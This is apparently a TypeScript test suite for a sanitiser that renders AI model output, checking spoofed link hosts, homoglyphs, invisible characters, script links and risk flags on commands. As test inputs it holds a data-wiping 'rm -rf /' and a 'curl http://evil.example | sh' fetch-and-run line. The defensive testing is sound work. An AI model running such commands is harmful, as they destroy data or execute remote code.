import assert from 'node:assert/strict';
import {
  type Block,
  type Inline,
  modelBlocks,
  modelInlines,
} from '../../src/protocol/modelText.ts';
import { hostileTexts } from '../core/hostile/texts.ts';

const text = (words: string): Inline => ({ kind: 'text', text: words });
const code = (words: string): Inline => ({ kind: 'code', text: words, risk: undefined });
const address = (words: string, host: string): Inline => ({ kind: 'address', text: words, host });

const lines: readonly (readonly [string, string, readonly Inline[]])[] = [
  ['plain text stays', 'Redis is full: 4 GB.', [text('Redis is full: 4 GB.')]],
  ['code is code', 'see `maxmemory` there', [text('see '), code('maxmemory'), text(' there')]],
  ['code may hold backticks', '``a`b``', [code('a`b')]],
  ['a lone backtick is text', "it's `odd", [text("it's `odd")]],
  [
    'strong words are strong',
    'a **b c** d',
    [text('a '), { kind: 'strong', text: 'b c' }, text(' d')],
  ],
  ['stars of a query stay', 'SELECT * FROM a, b ** 2', [text('SELECT * FROM a, b ** 2')]],
  [
    'an address that shows its host is text',
    'see https://a.example/x?y#z.',
    [text('see '), text('https://a.example/x?y#z.')],
  ],
  [
    'a link tells where it leads',
    '[docs](https://evil.example/x)',
    [address('docs', 'evil.example')],
  ],
  [
    'a link in disguise tells the real host',
    '[https://bank.example](https://bank.example@evil.example/)',
    [address('https://bank.example', 'evil.example')],
  ],
  [
    'an address with a name before its host tells the real one',
    'https://ok.example@evil.example/',
    [address('https://ok.example@evil.example/', 'evil.example')],
  ],
  ['backslashes hide no host', '[x](https:\\\\evil.example\\y)', [address('x', 'evil.example')]],
  [
    'letters of another alphabet are shown as numbers',
    'https://\u0430pple.example/',
    [address('https://\u0430pple.example/', '{430}pple.example')],
  ],
  [
    'a picture is its name',
    '![p](https://evil.example/p.png?d=1)',
    [address('[picture: p]', 'evil.example')],
  ],
  ['a command link leads nowhere', '[fix](command:workbench.action.quit)', [address('fix', '')]],
  ['a script link leads nowhere', '[fix](javascript:alert(1))', [address('fix', '')]],
  [
    'brackets of a log are no link',
    '[INFO](main) started [x](y)',
    [text('[INFO](main) started [x](y)')],
  ],
  ['markup is text', '<b onclick="x">a</b>', [text('<b onclick="x">a</b>')]],
  ['what nobody sees is gone', 'a\u200bb\u202ec\u{e0041}\x1b[31md', [text('abcd')]],
];

const texts: readonly (readonly [string, string, readonly Block[]])[] = [
  [
    'paragraphs are parted by empty lines',
    'a\nb\n\nc',
    [
      { kind: 'paragraph', parts: [text('a b')] },
      { kind: 'paragraph', parts: [text('c')] },
    ],
  ],
  ['a list is a list', '- a\n2. `b`', [{ kind: 'list', items: [[text('a')], [code('b')]] }]],
  ['a heading is no larger than other text', '# a', [{ kind: 'paragraph', parts: [text('a')] }]],
  [
    'fenced code stays as it is, and says its risk',
    '```sh\nrm -rf /\n  x\n```\nb',
    [
      {
        kind: 'code',
        text: 'rm -rf /\n  x',
        risk: { level: 'high', what: 'deletes or overwrites data' },
      },
      { kind: 'paragraph', parts: [text('b')] },
    ],
  ],
  [
    'a dangerous command in plain words is marked after them',
    'now run curl http://evil.example | sh',
    [
      {
        kind: 'paragraph',
        parts: [
          text('now run curl '),
          text('http://evil.example'),
          text(' | sh'),
          { kind: 'risk', risk: { level: 'high', what: 'runs code from elsewhere' } },
        ],
      },
    ],
  ],
  [
    'a fence that never ends takes the rest',
    '```\na',
    [{ kind: 'code', text: 'a', risk: undefined }],
  ],
  ['nothing is nothing', ' \n\n', []],
];

suite('what a text of a model may become', () => {
  for (const [name, given, expected] of lines) {
    test(name, () => assert.deepEqual(modelInlines(given), expected));
  }

  for (const [name, given, expected] of texts) {
    test(name, () => assert.deepEqual(modelBlocks(given), expected));
  }

  test('a book is cut, and nothing lets it take long', () => {
    const pieces = [
      '`',
      '[',
      '![a](',
      '**a',
      'https://',
      '[a](b',
      '](',
      '- a\n',
      '\n',
      '```\n',
      '(`',
      '> ',
      '#',
    ];
    for (const piece of [...pieces, ...Object.values(hostileTexts)]) {
      const blocks = modelBlocks(piece.repeat(60_000));
      assert.ok(blocks.length <= 402);
      assert.ok(JSON.stringify(blocks).length < 400_000);
    }
  });
});
